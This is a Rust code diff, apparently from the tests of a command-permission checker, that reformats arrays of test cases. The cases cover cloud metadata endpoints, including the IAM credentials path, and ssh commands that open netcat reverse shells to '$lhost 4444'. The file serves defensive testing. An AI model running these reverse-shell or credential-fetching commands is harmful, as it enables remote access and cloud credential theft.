@@ -1307,7 +1307,11 @@ fn homes_roots() -> Vec<Base> {
 /// request to the address itself (credential paths deny, others ask).
 fn metadata_host_header() -> Vec<Base> {
     let mut out = Vec::new();
-    for host in ["169.254.169.254", "metadata.google.internal", "100.100.100.200"] {
+    for host in [
+        "169.254.169.254",
+        "metadata.google.internal",
+        "100.100.100.200",
+    ] {
         for (path, expect) in [
             ("/latest/meta-data/", "ask"),
             ("/latest/meta-data/iam/security-credentials/", "deny"),
@@ -1329,7 +1333,12 @@ fn metadata_host_header() -> Vec<Base> {
 /// shell or a wipe there is seen with its peer or path unknown.
 fn ssh_partly_dynamic() -> Vec<Base> {
     let mut out = Vec::new();
-    for dest in ["user@$ip", "$HOST", "-p 2222 root@${TARGET}", "-i key.pem ubuntu@$1"] {
+    for dest in [
+        "user@$ip",
+        "$HOST",
+        "-p 2222 root@${TARGET}",
+        "-i key.pem ubuntu@$1",
+    ] {
         for cmd in [
             format!("ssh {dest} nc $lhost 4444 -e /bin/sh"),
             format!("ssh {dest} ncat $LHOST $LPORT -e /bin/bash"),
